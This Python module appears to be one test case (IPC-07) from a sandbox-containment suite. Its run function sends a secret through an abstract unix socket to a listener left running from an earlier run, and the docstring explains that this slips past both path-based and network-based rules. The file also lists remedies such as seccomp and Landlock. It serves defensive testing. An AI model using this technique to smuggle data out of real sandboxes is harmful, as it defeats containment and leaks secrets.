# SPDX-License-Identifier: MIT
"""Goal:  bytes reach an accomplice.
Means: a unix socket with an abstract name. It is no file, so no rule on paths applies, and it is no
       address, so no rule on networks does; an accomplice who survived the last run listens.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sink:
            sink.settimeout(3)
            sink.connect("\0ordeal-sink")
            sink.sendall(brief.secret.encode())
    except OSError as why:
        return denied("abstract unix socket", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's accomplice",
    "means": "an abstract unix socket: neither a file nor an address",
    "oracle": "sink",
    "id": "IPC-07",
    "attack_id": "T1559, CWE-668",
    "remedy": "seccomp without socket(2); Landlock's abstract scope; a network namespace",
    "refs": ["unix(7)", "landlock(7)"],
    "run": run,
}
